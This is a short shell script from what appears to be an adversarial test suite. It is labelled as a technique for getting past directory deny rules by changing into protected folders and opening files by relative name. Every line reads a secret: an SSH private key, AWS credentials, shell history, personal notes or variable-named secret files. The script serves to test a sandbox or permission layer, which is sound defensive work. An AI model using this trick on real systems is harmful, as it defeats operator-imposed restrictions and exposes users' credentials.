# technique: cd into denied directories and open by relative name
# fast: yes
. ./.adv/world.env
cd "$HOME/.ssh" && cat id_rsa ./id_rsa
cd "$HOME/.aws" && cat credentials
cd "$HOME" && cat Documents/notes.txt .bash_history
cd / && cat "${SECRET#/}"
cd "$(dirname "$OUTSIDE")" && cat secret.txt
